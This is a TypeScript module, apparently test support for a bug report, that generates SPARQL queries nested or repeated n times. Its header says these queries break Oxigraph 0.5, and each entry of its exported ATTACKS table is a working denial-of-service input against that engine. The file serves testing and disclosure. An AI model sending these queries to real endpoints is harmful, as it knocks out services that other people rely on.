// The queries that break Oxigraph 0.5 when nested or repeated deep enough (issue 11), as functions of the repeat count.

const P = "<http://x/p>";
const nest = (open: string, inner: string, close: string) => (n: number) =>
  `${open.repeat(n)}${inner}${close.repeat(n)}`;
/** Each construct that breaks Oxigraph 0.5 when repeated, as a function of the repeat count (the attacks of issue 11 first). */
export const ATTACKS: Readonly<Record<string, (n: number) => string>> = {
  "STR( nested": (n) => `ASK { FILTER(${nest("STR(", '"x"', ")")(n)} = "x") }`,
  "{} nested": (n) => `ASK ${nest("{", "", "}")(n)}`,
  "OPTIONAL nested": (n) => `ASK { ${nest("OPTIONAL { ", "", "}")(n)} }`,
  "sub-SELECT nested": (n) => `ASK { ${nest("{ SELECT * WHERE ", "{}", " }")(n)} }`,
  "parentheses nested": (n) => `ASK { FILTER(${nest("(", "1", ")")(n)}) }`,
  "path sequence": (n) => `ASK { ?s ${Array(n).fill(P).join("/")} ?o }`,
  "path alternative": (n) => `ASK { ?s ${Array(n).fill(P).join("|")} ?o }`,
  "path group nested": (n) => `ASK { ?s ${nest("(", P, ")")(n)} ?o }`,
  "NOT EXISTS nested": (n) => `ASK { ${nest("FILTER NOT EXISTS { ", "", "}")(n)} }`,
  "EXISTS nested in FILTER": (n) => `ASK { FILTER(${nest("EXISTS { FILTER(", "true", ") }")(n)}) }`,
  "MINUS nested": (n) => `ASK { ${nest("{ ?s ?p ?o MINUS ", "{}", " }")(n)} }`,
  "GRAPH nested": (n) => `ASK { ${nest("GRAPH ?g { ", "", "}")(n)} }`,
  "blank node nested": (n) => `ASK { ?s ${P} ${nest(`[ ${P} `, "1", " ]")(n)} }`,
  "collection nested": (n) => `ASK { ?s ${P} ${nest("( ", "1", " )")(n)} }`,
  "UNION chain": (n) => `ASK { ${Array(n).fill("{}").join(" UNION ")} }`,
  "|| chain": (n) => `ASK { FILTER(${Array(n).fill("true").join(" || ")}) }`,
  "+ chain": (n) => `ASK { FILTER(${Array(n).fill("1").join(" + ")} > 0) }`,
  "! chain": (n) => `ASK { FILTER(${"!".repeat(n)}true) }`,
  "triple patterns": (n) => `ASK { ${Array.from({ length: n }, (_, i) => `?s${i} ${P} ?o${i} .`).join(" ")} }`,
  "FILTERs in a group": (n) => `ASK { ${Array(n).fill("FILTER(true)").join(" ")} }`,
  "BINDs in a group": (n) => `SELECT * { ${Array.from({ length: n }, (_, i) => `BIND(${i} AS ?v${i})`).join(" ")} }`,
  "OPTIONALs in a group": (n) => `ASK { ${Array(n).fill(`OPTIONAL { ?s ${P} ?o }`).join(" ")} }`,
};
